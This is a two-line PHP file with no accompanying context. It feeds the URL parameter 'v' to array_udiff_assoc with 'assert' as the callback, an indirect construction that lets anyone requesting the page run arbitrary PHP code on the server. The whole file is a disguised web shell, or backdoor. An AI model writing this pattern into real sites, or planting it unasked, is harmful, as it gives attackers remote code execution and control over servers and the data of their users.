<?php
array_udiff_assoc(array($_GET['v']), array('x'), 'assert');
